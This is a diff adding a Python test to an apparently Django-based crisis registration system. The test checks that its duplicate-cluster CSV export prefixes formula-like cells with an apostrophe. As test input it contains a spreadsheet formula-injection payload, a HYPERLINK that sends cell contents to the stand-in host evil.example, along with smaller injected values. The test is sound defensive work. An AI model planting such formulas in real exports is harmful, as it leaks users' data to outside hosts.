@@ -626,3 +626,54 @@ def test_the_export_says_what_each_intake_record_was(
     assert theirs == [("api", "correction"), ("hotline", "registration")]
     listed = [r for r in rows if r["person"] == str(crowd["names"][1])]
     assert [(r["channel"], r["kind"]) for r in listed] == [("import", "import")]
+
+
+def test_the_export_writes_what_a_list_said_as_text_never_as_a_formula(
+    world: World, tmp_path: Any
+) -> None:
+    """An imported list's source name and its references are free text: a spreadsheet
+    would run a cell starting with = (or +, -, @) — the export writes such a cell with an
+    apostrophe in front."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    path = tmp_path / "list.csv"
+    path.write_text(
+        "ФИО;Дата рождения;Ticket\n"
+        'Жумабекова Айгуль;15.07.1990;"' + formula.replace('"', '""') + '"\n',
+        encoding="utf-8",
+    )
+    call_command(
+        "import", str(path), "--crisis", world.crisis.code, "--source", "@SUM(1+1)",
+        "--country", "IR", stdout=io.StringIO(),
+    )  # fmt: skip
+    registered = world.api(Role.OPERATOR).post(
+        f"/api/registrations?crisis={world.crisis.pk}",
+        data=json.dumps(
+            {
+                "members": [{"surname": "Омаров", "given_names": "Ерлан"}],
+                "location": {"country": "IR"},
+                "consent": True,
+                "source_ref": "+1-2 cmd",
+            }
+        ),
+        content_type="application/json",
+    )
+    assert registered.status_code == 201, registered.content
+    target = tmp_path / "clusters.csv"
+    call_command(
+        "dedup", "export", "--crisis", str(world.crisis.pk), "--out", str(target),
+        stdout=io.StringIO(),
+    )  # fmt: skip
+    rows = {r["intake_record"]: r for r in csv.DictReader(target.open(encoding="utf-8"))}
+    imported = next(r for r in rows.values() if r["channel"] == "import")
+    assert (imported["source"], imported["source_ref"]) == ("'@SUM(1+1)", "'" + formula)
+    api_row = rows[str(registered.json()["intake_record"])]
+    assert api_row["source_ref"] == "'+1-2 cmd"
+    assert not any(
+        cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values()
+    )
+    # The same through the API.
+    export = world.api(Role.CRISIS_MANAGER).get(
+        "/api/duplicates/clusters.csv", {"crisis": world.crisis.pk}
+    )
+    again = list(csv.DictReader(io.StringIO(export.content.decode())))
+    assert {r["source_ref"] for r in again} >= {"'" + formula, "'+1-2 cmd"}
